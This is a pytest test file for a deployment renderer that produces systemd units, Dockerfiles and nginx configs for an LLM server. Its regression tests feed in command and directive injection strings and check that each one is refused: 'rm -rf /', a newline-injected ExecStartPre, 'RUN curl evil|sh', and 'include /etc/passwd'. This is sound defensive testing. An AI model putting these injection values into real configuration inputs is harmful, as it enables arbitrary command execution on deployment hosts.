"""Release files: the systemd unit (checked by systemd-analyze verify), runtime.yaml, the 0600 env file;
secrets only in that file; undefined template variables fail naming template and variable (exit 3);
`deployctl render` is byte-for-byte reproducible."""
from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from deployctl.errors import ConfigError
from deployctl.render import render_release
from deployctl.render.validate import verify_systemd
from support.cli import repo_env
from support.paths import REPO
from support.render import API_KEY, make_config, write_config


def _unit(text: str) -> dict[str, list[str]]:
    """systemd unit -> {"Section.Key": [values in order]}."""
    out: dict[str, list[str]] = {}
    section = ""
    for line in text.splitlines():
        line = line.strip()
        if not line or line.startswith(("#", ";")):
            continue
        if line.startswith("["):
            section = line.strip("[]")
            continue
        key, value = line.split("=", 1)
        out.setdefault(f"{section}.{key}", []).append(value)
    return out


def _files(cfg, host=None, api_key=API_KEY, **kw):
    return {f.path: f for f in render_release(cfg, host or cfg.hosts[0], "r20261130-abc", api_key=api_key, **kw)}


def test_cuda_unit_has_the_production_lessons():
    cfg = make_config(server={"drain_timeout_s": 40, "startup_timeout_s": 900})
    unit = _unit(_files(cfg)["chat-7b.service"].content)
    assert "nvidia-persistenced.service" in unit["Unit.After"][0] and "nvidia-persistenced.service" in unit["Unit.Wants"][0]
    pre = unit["Service.ExecStartPre"][0]
    assert pre.startswith("/usr/bin/timeout ") and "nvidia-smi -i 0" in pre  # bounded GPU wait
    assert unit["Service.Restart"] == ["on-failure"] and int(unit["Service.RestartSec"][0]) >= 5
    assert int(unit["Service.TimeoutStartSec"][0]) >= 900
    assert int(unit["Service.TimeoutStopSec"][0]) > 40
    assert unit["Service.KillMode"] == ["mixed"]
    assert unit["Service.EnvironmentFile"] == ["/opt/deployctl/chat-7b/releases/r20261130-abc/runtime.env"]
    assert unit["Service.DevicePolicy"] == ["closed"]
    assert {"/dev/nvidiactl rw", "/dev/nvidia0 rw", "/dev/nvidia-uvm rw"} <= set(unit["Service.DeviceAllow"])
    assert "Service.PrivateDevices" not in unit
    assert unit["Service.ExecStart"] == ["/opt/deployctl/venv/bin/python -m deployctl_runtime serve --config "
                                         "/opt/deployctl/chat-7b/releases/r20261130-abc/runtime.yaml"]
    assert unit["Service.Environment"][-1] == "CUDA_VISIBLE_DEVICES=0"
    # The second host's GPU index reaches its unit.
    other = _unit(_files(cfg, cfg.hosts[1])["chat-7b.service"].content)
    assert "/dev/nvidia1 rw" in other["Service.DeviceAllow"] and "nvidia-smi -i 1" in other["Service.ExecStartPre"][0]


def test_cpu_unit_has_no_gpu_wait():
    unit = _unit(_files(make_config(engine={"device": "cpu"}))["chat-7b.service"].content)
    assert not [p for p in unit.get("Service.ExecStartPre", []) if "nvidia" in p] and "Service.DeviceAllow" not in unit
    assert "nvidia" not in unit["Unit.After"][0] and unit["Service.DevicePolicy"] == ["closed"]


def test_runtime_yaml_carries_serve_flags_and_release_id():
    cfg = make_config(engine={"num_gpu_blocks_override": 512})
    files = _files(cfg, cfg.hosts[1], extra_runtime_args={"max_num_seqs": 8, "enable_chunked_prefill": False})
    data = yaml.safe_load(files["runtime.yaml"].content)
    assert data == {"model": "/models/llm-7b-chat", "served_model_name": "llm-7b-chat", "host": "0.0.0.0",
                    "port": 8080, "device": "cuda", "dtype": "bfloat16", "max_model_len": 8192, "max_num_seqs": 8,
                    "max_num_batched_tokens": 8192, "block_size": 16, "gpu_memory_utilization": 0.9,
                    "enable_prefix_caching": True, "enable_chunked_prefill": False, "max_queued_requests": 256,
                    "request_timeout_s": 120, "drain_timeout_s": 30, "log_requests": False,
                    "sse_keepalive_s": 15, "keep_alive_timeout_s": 75.0,
                    "num_gpu_blocks_override": 512, "release_id": "r20261130-abc"}
    manifest = files["manifest.sha256"].content
    assert "runtime.env" not in manifest and f"{files['runtime.yaml'].sha256}  runtime.yaml" in manifest


def test_env_file_is_0600_and_the_only_holder_of_the_key():
    files = _files(make_config())
    assert files["runtime.env"].mode == 0o600
    assert f"DEPLOYCTL_RUNTIME_API_KEY={API_KEY}\n" in files["runtime.env"].content
    assert [p for p, f in files.items() if API_KEY in f.content] == ["runtime.env"]


def test_bad_api_key_is_refused_without_echoing_it():
    with pytest.raises(ConfigError) as err:
        _files(make_config(), api_key='abc"; rm -rf /')
    assert "rm -rf" not in str(err.value) and "14 characters" in str(err.value)


def test_unsafe_path_is_refused():
    cfg = make_config(hosts=[{"name": "gpu-a", "address": "x", "deploy_root": "/opt/my app"}])
    with pytest.raises(ConfigError, match=r"hosts\[gpu-a\].deploy_root '/opt/my app'"):
        render_release(cfg, cfg.hosts[0], "r1", api_key=None)


def test_systemd_analyze_verify_accepts_installed_release(tmp_path):
    root = tmp_path / "root"
    cfg = make_config(engine={"device": "cpu"},
                      hosts=[{"name": "h", "address": "local", "deploy_root": str(root), "python": sys.executable}])
    rel = root / "releases" / "r1"
    rel.mkdir(parents=True)
    for f in render_release(cfg, cfg.hosts[0], "r1", api_key=API_KEY):
        (rel / f.path).write_text(f.content)
    result = verify_systemd(rel / "chat-7b.service")
    assert result.ok and not result.notes, result.output


def test_systemd_analyze_verify_notes_missing_executable_and_fails_unknown_keys(tmp_path, monkeypatch):
    cfg = make_config()
    unit = tmp_path / "chat-7b.service"
    unit.write_text(_files(cfg)["chat-7b.service"].content)
    result = verify_systemd(unit)
    assert result.ok and any("is not executable" in n for n in result.notes), result.output
    # A template edit that systemd does not understand fails the check, naming the key.
    override = tmp_path / "tpl"
    override.mkdir()
    text = (REPO / "templates" / "runtime.service.j2").read_text().replace("KillMode=", "KilMode=")
    (override / "runtime.service.j2").write_text(text)
    monkeypatch.setenv("DEPLOYCTL_TEMPLATES", str(override))
    unit.write_text(_files(cfg)["chat-7b.service"].content)
    bad = verify_systemd(unit)
    assert not bad.ok and "Unknown key 'KilMode'" in bad.output


def _cli(args, env_extra=None, cwd=None):
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")]),
           "LLM_API_KEY": API_KEY, **(env_extra or {})}
    return subprocess.run([sys.executable, "-m", "deployctl", *args], capture_output=True, text=True, env=env,
                          cwd=cwd, timeout=120)


def test_undefined_template_variable_fails_with_exit_3(tmp_path):
    override = tmp_path / "tpl"
    override.mkdir()
    text = (REPO / "templates" / "launch.sh.j2").read_text()
    assert "{{ timeout_stop_s }}" in text and "{{ engine_cmd }}" in text
    (override / "launch.sh.j2").write_text(text.replace("{{ timeout_stop_s }}", "{{ timeout_stop_seconds }}"))
    cfg = write_config(tmp_path / "deploy.yaml")
    done = _cli(["render", "--out", str(tmp_path / "out"), "-c", str(cfg), "--release-id", "r1"],
                {"DEPLOYCTL_TEMPLATES": str(override)})
    assert done.returncode == 3, done.stderr
    assert "template launch.sh.j2 line" in done.stderr and "'timeout_stop_seconds'" in done.stderr
    # An attribute that does not exist is named the same way.
    (override / "launch.sh.j2").write_text(text.replace("{{ service.name }}", "{{ service.interpreter }}"))
    done = _cli(["render", "--out", str(tmp_path / "out"), "-c", str(cfg), "--release-id", "r1"],
                {"DEPLOYCTL_TEMPLATES": str(override)})
    assert done.returncode == 3 and "'interpreter'" in done.stderr and "launch.sh.j2" in done.stderr


def test_render_without_the_api_key_variable_writes_a_reference_and_says_so(tmp_path):
    # C33: render --out refused (exit 3) unless the secret was exported, so it could not be reviewed or diffed
    cfg = write_config(tmp_path / "deploy.yaml")
    env = {k: v for k, v in os.environ.items() if k != "LLM_API_KEY"}
    done = subprocess.run([sys.executable, "-m", "deployctl", "render", "--out", str(tmp_path / "o"), "-c", str(cfg),
                           "--no-validate"], capture_output=True, text=True, timeout=120,
                          env={**env, "PYTHONPATH": os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")])})
    assert done.returncode == 0, done.stderr
    assert "note: LLM_API_KEY is not set" in done.stderr
    envs = sorted((tmp_path / "o").rglob("runtime.env"))
    assert envs and all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in envs)
    for p in envs:
        text = p.read_text()
        assert "$LLM_API_KEY was not set" in text
        assert not [line for line in text.splitlines() if line.startswith("DEPLOYCTL_RUNTIME_API_KEY=")]
    from deployctl.config import load_config
    from deployctl.render import render_all

    with pytest.raises(ConfigError, match="LLM_API_KEY is not set"):  # the library call still refuses by default
        render_all(load_config(cfg), tmp_path / "o2", target="systemd", env={})


def _tree(root: Path) -> dict[str, tuple[bytes, int]]:
    return {str(p.relative_to(root)): (p.read_bytes(), stat.S_IMODE(p.stat().st_mode))
            for p in sorted(root.rglob("*")) if p.is_file()}


def _render(cfg_path: Path, out: Path, target: str = "systemd", release_id: str | None = "r1", env=None):
    from deployctl.config import load_config
    from deployctl.render import render_all

    return render_all(load_config(cfg_path), out, target=target, release_id=release_id,
                      env={"LLM_API_KEY": API_KEY, **(env or {})})


@pytest.mark.parametrize("target", ["systemd", "container", "k8s-rollout"])
def test_render_cli_is_reproducible_validated_and_keeps_the_key_in_the_env_file(tmp_path, target):
    cfg = write_config(tmp_path / "deploy.yaml")
    a, b = tmp_path / "a", tmp_path / "b"
    first = _cli(["render", "--out", str(a), "-t", target, "-c", str(cfg), "--release-id", "r1"])
    assert first.returncode == 0, first.stderr
    assert "FAILED" not in first.stderr and "ok " in first.stderr
    _render(cfg, b, target)  # the same inputs in another process: the same bytes and modes
    tree = _tree(a)
    assert tree == _tree(b)
    holders = {p: mode for p, (data, mode) in tree.items() if API_KEY.encode() in data}
    assert holders and all(p.endswith(("runtime.env", ".conf.keys")) and mode == 0o600
                           for p, mode in holders.items()), holders
    if target != "k8s-rollout":  # the router's keys file beside its conf, 0600
        assert any(p.endswith("router/chat-7b.conf.keys") for p in holders), holders


def test_default_release_id_is_timestamp_and_content_hash(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml")
    env = {"SOURCE_DATE_EPOCH": "1780000000"}
    ids = []
    for out in ("a", "b"):
        _render(cfg, tmp_path / out, release_id=None, env=env)
        ids.append(yaml.safe_load((tmp_path / out / "RENDER.json").read_text())["release_id"])
    assert ids[0] == ids[1] and ids[0].startswith("20260528T") and len(ids[0].split("-")[1]) == 8
    assert _tree(tmp_path / "a") == _tree(tmp_path / "b")
    write_config(cfg, engine={"max_num_seqs": 32})
    _render(cfg, tmp_path / "c", release_id=None, env=env)
    other = yaml.safe_load((tmp_path / "c" / "RENDER.json").read_text())["release_id"]
    assert other.split("-")[0] == ids[0].split("-")[0] and other != ids[0]  # another config, another hash


def test_tools_missing_is_a_clear_error(monkeypatch, tmp_path):
    from deployctl.render.validate import ToolMissing, check_alert_rules

    monkeypatch.setattr(shutil, "which", lambda name: None)
    monkeypatch.setattr(Path, "exists", lambda self: False)
    with pytest.raises(ToolMissing, match=r"promtool is not installed.*apt-get install -y prometheus"):
        check_alert_rules(tmp_path / "x.yaml")


# -- regressions (from test_render_edge_cases.py): `deployctl render` against hostile deploy.yaml values: every rendered file passes the tool that reads it, or the render is refused with one line and exit 3 (exit 2 for a bad --out). Never a traceback, never an injected line in a unit file, Dockerfile or nginx conf.

ENV = repo_env({"LLM_API_KEY": API_KEY})


def render(cfg: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "deployctl", "render", "-c", str(cfg), "--out", str(out),
                           "--release-id", "r1", "--no-validate", *extra],
                          env=ENV, capture_output=True, text=True, timeout=60)


def assert_refused(proc: subprocess.CompletedProcess, code: int, *needles: str) -> str:
    err = proc.stderr.strip()
    assert proc.returncode == code, (proc.returncode, err)
    assert "Traceback" not in err and len(err.splitlines()) == 1, err
    for needle in needles:
        assert needle in err, err
    return err


def _host(**kw):
    return {"name": "gpu-a", "address": "10.0.0.11", "deploy_root": "/opt/d", "python": "/usr/bin/python3", **kw}


def test_infinite_request_timeout_is_a_config_error(tmp_path):
    # `.inf` passed gt=0; math.ceil(inf) in the router render raised OverflowError (a traceback)
    cfg = write_config(tmp_path / "deploy.yaml", server={"request_timeout_s": float("inf")})
    assert_refused(render(cfg, tmp_path / "out"), 3, "server.request_timeout_s")


def test_absurd_startup_timeout_is_a_config_error(tmp_path):
    # 1e308 s rendered TimeoutStartSec=1e308-digits, which systemd-analyze rejects: refuse it up front
    cfg = write_config(tmp_path / "deploy.yaml", server={"startup_timeout_s": 1e308})
    assert_refused(render(cfg, tmp_path / "out"), 3, "server.startup_timeout_s")


def test_infinite_pause_is_a_config_error_for_k8s(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", rollout={"pause_s": float("inf")})
    assert_refused(render(cfg, tmp_path / "out", "--target", "k8s-rollout"), 3, "rollout.pause_s")


def test_user_with_a_line_break_cannot_inject_unit_lines(tmp_path):
    # hosts[].user was free text put after User= in the unit: a newline added any directive (ExecStartPre=...)
    cfg = write_config(tmp_path / "deploy.yaml",
                       hosts=[_host(user="deploy\nExecStartPre=/bin/touch /tmp/pwned")])
    assert_refused(render(cfg, tmp_path / "out"), 3, "hosts[0].user")
    assert not (tmp_path / "out").exists()


def test_user_with_a_space_is_a_config_error(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", hosts=[_host(user="de ploy")])
    assert_refused(render(cfg, tmp_path / "out"), 3, "hosts[0].user")


def test_ordinary_user_names_still_render(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", hosts=[_host(user="svc_llm-1")])
    proc = render(cfg, tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    assert "User=svc_llm-1\n" in (tmp_path / "out/hosts/gpu-a/chat-7b.service").read_text()


def test_base_image_with_a_line_break_cannot_inject_dockerfile_lines(tmp_path):
    # container.base_image went raw after FROM: "python:3.11\nRUN curl evil|sh" added a RUN line
    cfg = write_config(tmp_path / "deploy.yaml", container={"base_image": "python:3.11\nRUN curl evil|sh"})
    assert_refused(render(cfg, tmp_path / "out", "--target", "container"), 3, "container.base_image")


def test_image_with_a_space_is_a_config_error(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", container={"image": "registry/x:1 --privileged"})
    assert_refused(render(cfg, tmp_path / "out", "--target", "k8s"), 3, "container.image")


def test_image_references_with_registry_port_and_digest_render(tmp_path):
    image = "registry.example.com:5000/team/llm@sha256:" + "a" * 64
    cfg = write_config(tmp_path / "deploy.yaml", container={"image": image, "base_image": "nvidia/cuda:12.4.1-runtime-ubuntu22.04"})
    proc = render(cfg, tmp_path / "out", "--target", "container")
    assert proc.returncode == 0, proc.stderr
    assert yaml.safe_load((tmp_path / "out/hosts/gpu-a/compose.yaml").read_text())["services"]["runtime"]["image"] == image
    assert "FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04\n" in (tmp_path / "out/hosts/gpu-a/Dockerfile").read_text()


def test_router_listen_address_that_is_not_an_address_is_a_config_error(tmp_path):
    # router.listen_address went raw into `listen ...;`: "0.0.0.0; include /etc/passwd" was an nginx directive
    cfg = write_config(tmp_path / "deploy.yaml", router={"listen_address": "0.0.0.0; include /etc/passwd"})
    assert_refused(render(cfg, tmp_path / "out"), 3, "router.listen_address")


def test_router_ipv6_listen_address_renders(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", router={"listen_address": "::1"})
    proc = render(cfg, tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    assert "listen [::1]:8088;" in (tmp_path / "out/router/chat-7b.conf").read_text()


def test_unicode_served_name_reads_back_exactly(tmp_path):
    # `q` wrote non-ASCII raw: U+2028 and NEL are line breaks to YAML (folded to a space: the runtime served
    # another name), and U+007F made runtime.yaml unreadable ("special characters are not allowed")
    name = "modèl-日本\u2028x\x85y\x7fz"
    cfg = write_config(tmp_path / "deploy.yaml", model={"served_name": name})
    proc = render(cfg, tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    runtime_yaml = yaml.safe_load((tmp_path / "out/hosts/gpu-a/runtime.yaml").read_text())
    assert runtime_yaml["served_model_name"] == name
    proc = render(cfg, tmp_path / "k8s", "--target", "k8s")
    assert proc.returncode == 0, proc.stderr
    configmap = yaml.safe_load((tmp_path / "k8s/k8s/configmap.yaml").read_text())
    assert yaml.safe_load(configmap["data"]["runtime.yaml"])["served_model_name"] == name


def test_out_that_is_a_file_is_a_usage_error(tmp_path):
    # write_files' mkdir raised NotADirectoryError (a traceback)
    cfg = write_config(tmp_path / "deploy.yaml")
    (tmp_path / "afile").write_text("keep me\n")
    assert_refused(render(cfg, tmp_path / "afile"), 2, "--out", str(tmp_path / "afile"))
    assert (tmp_path / "afile").read_text() == "keep me\n"


def test_out_that_cannot_be_created_is_a_usage_error(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml")
    assert_refused(render(cfg, Path("/proc/deployctl-no-such-dir")), 2, "--out")


def _local_hosts(**second):
    return [{"name": "h1", "address": "local", "deploy_root": "/srv/d1", "launcher": "process"},
            {"name": "h2", "address": "local", "deploy_root": "/srv/d2", "launcher": "process", **second}]


def test_two_hosts_on_one_address_and_port_are_a_config_error(tmp_path):
    # both runtimes would bind 127.0.0.1:8080 (the second fails) and nginx got the same server line twice
    cfg = write_config(tmp_path / "deploy.yaml", hosts=_local_hosts())
    assert_refused(render(cfg, tmp_path / "out"), 3, "h1", "h2", "8080", "server_port")


def test_router_listening_on_a_runtime_port_is_a_config_error(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", hosts=_local_hosts(server_port=8081), router={"listen": 8081})
    assert_refused(render(cfg, tmp_path / "out"), 3, "router.listen", "8081", "h2")


def test_local_hosts_on_distinct_ports_render_and_pass_nginx(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", hosts=_local_hosts(server_port=8081))
    proc = subprocess.run([sys.executable, "-m", "deployctl", "render", "-c", str(cfg), "--out", str(tmp_path / "o"),
                           "--release-id", "r1"], env=ENV, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    conf = (tmp_path / "o/router/chat-7b.conf").read_text()
    assert "server 127.0.0.1:8080 max_fails=1 fail_timeout=10s;" in conf and "server 127.0.0.1:8081 max_fails=1" in conf


@pytest.mark.parametrize("release_id,target", [("r1-", "k8s"), ("r1_", "k8s-rollout"), ("a" * 64, "k8s"),
                                               ("a" * 200, "container"), ("a" * 300, "systemd")])
def test_release_id_that_is_not_a_label_tag_and_file_name_is_refused(tmp_path, release_id, target):
    # passed every validator and rendered: a k8s label value that kubectl rejects (must end alphanumeric, <= 63),
    # an image tag Docker rejects (> 128), a release directory name over NAME_MAX (255)
    cfg = write_config(tmp_path / "deploy.yaml")
    proc = subprocess.run([sys.executable, "-m", "deployctl", "render", "-c", str(cfg), "--out", str(tmp_path / "o"),
                           "--release-id", release_id, "--target", target, "--no-validate"],
                          env=ENV, capture_output=True, text=True, timeout=60)
    assert_refused(proc, 3, "release id")
